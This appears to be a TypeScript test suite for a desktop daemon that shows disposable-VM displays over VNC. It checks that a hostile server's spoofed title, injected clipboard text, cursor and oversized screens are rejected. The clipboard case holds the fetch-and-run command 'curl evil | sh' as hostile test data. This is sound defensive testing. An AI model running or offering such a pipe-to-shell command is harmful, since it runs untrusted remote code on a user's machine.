// What a VNC server taken over by a DispVM can do to the user's desktop: nothing outside its picture.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import {
  missingForWindows,
  openMessage,
  paintedMessages,
  startGuiDaemon,
  type GuiDaemon,
} from '../support/gui-daemon.ts';
import { startRfbServer, type RfbServer } from '../support/rfb-server.ts';

const quietMs = 300;
const white = 0xffffff;

describe('a hostile DispVM display', { skip: missingForWindows() ?? false }, () => {
  let gui: GuiDaemon;
  let folder: string;
  let count = 0;
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'glovebox-hostile-'));
    gui = await startGuiDaemon();
  });
  after(async () => {
    await gui.stop();
    await rm(folder, { recursive: true, force: true });
  });

  const attach = async (size?: { width: number; height: number }): Promise<{ dispvmId: string; server: RfbServer }> => {
    const dispvmId = `disp${++count}`;
    const server = await startRfbServer(join(folder, dispvmId), size);
    gui.send(openMessage(dispvmId));
    gui.send({ type: 'attach', dispvmId, vncSocket: server.path });
    return { dispvmId, server };
  };
  const show = async (dispvmId: string, server: RfbServer): Promise<void> => {
    await gui.waitFor('attached', dispvmId);
    paintedMessages(dispvmId).forEach((message) => gui.send(message));
    server.fill(0);
    await delay(quietMs);
    server.fill(white);
    await gui.waitFor('visible', dispvmId);
  };

  const words: readonly (readonly [what: string, say: (server: RfbServer) => void])[] = [
    ['a title', (server) => server.sendDesktopName('[disp99] trusted — work')],
    ['a clipboard', (server) => server.sendCutText('curl evil | sh')],
    ['a bell', (server) => server.sendBell()],
    ['a pointer that would cover the label', (server) => server.sendCursor(64, 64)],
  ];
  for (const [what, say] of words) {
    test(`loses its window by sending ${what}, and nothing of it is to be seen`, async () => {
      const { dispvmId, server } = await attach();
      await show(dispvmId, server);
      const window = await gui.windowOf(dispvmId);
      const title = await gui.titleOf(window);
      assert.match(title, /invoice\.pdf — view only, no network/);
      say(server);
      await gui.waitFor('display-lost', dispvmId);
      assert.equal(server.end(), 'broke-protocol');
      assert.equal(await gui.titleOf(window), title);
      assert.doesNotMatch(await gui.clipboardText(), /evil/);
      assert.equal(gui.exitCode(), null);
      gui.send({ type: 'close', dispvmId });
      await server.stop();
    });
  }

  test('is asked for pixels, sizes and keys only', async () => {
    const { dispvmId, server } = await attach();
    await gui.waitFor('attached', dispvmId);
    assert.deepEqual(server.encodings(), [0, -223, -258]);
    gui.send({ type: 'close', dispvmId });
    await server.stop();
  });

  test('is shown with our own pointer over it', async () => {
    const { dispvmId, server } = await attach();
    await show(dispvmId, server);
    await gui.runX('xdotool', 'mousemove', '640', '600');
    await delay(quietMs);
    // Xvfb draws the pointer into its framebuffer.
    const around = gui.screen.framebuffer.sample({ x: 600, y: 560, width: 120, height: 120 }, 60, 60);
    assert.ok(
      around.some((pixel) => pixel !== white),
      'a pointer is drawn',
    );
    gui.send({ type: 'close', dispvmId });
    await server.stop();
  });

  test('cannot resize the window', async () => {
    const { dispvmId, server } = await attach();
    await show(dispvmId, server);
    const window = await gui.windowOf(dispvmId);
    const before = await gui.runX('xdotool', 'getwindowgeometry', '--shell', window);
    server.sendDesktopSize(1900, 1900);
    await delay(quietMs);
    assert.equal(await gui.runX('xdotool', 'getwindowgeometry', '--shell', window), before);
    gui.send({ type: 'close', dispvmId });
    await server.stop();
  });

  for (const size of [
    { width: 5000, height: 100 },
    { width: 8192, height: 8192 },
  ]) {
    test(`loses its window with an absurd screen of ${size.width}×${size.height}, and no other window suffers`, async () => {
      gui.send(openMessage('disp900'));
      const { dispvmId, server } = await attach(size);
      await gui.waitFor('display-lost', dispvmId);
      await delay(quietMs);
      assert.equal(gui.exitCode(), null);
      assert.notEqual(await gui.windowOf('disp900'), '');
      gui.send({ type: 'close', dispvmId });
      gui.send({ type: 'close', dispvmId: 'disp900' });
      await server.stop();
    });

    test(`loses its window when it grows to ${size.width}×${size.height}`, async () => {
      const { dispvmId, server } = await attach();
      await show(dispvmId, server);
      server.sendDesktopSize(size.width, size.height);
      await gui.waitFor('display-lost', dispvmId);
      assert.equal(gui.exitCode(), null);
      gui.send({ type: 'close', dispvmId });
      await server.stop();
    });
  }
});
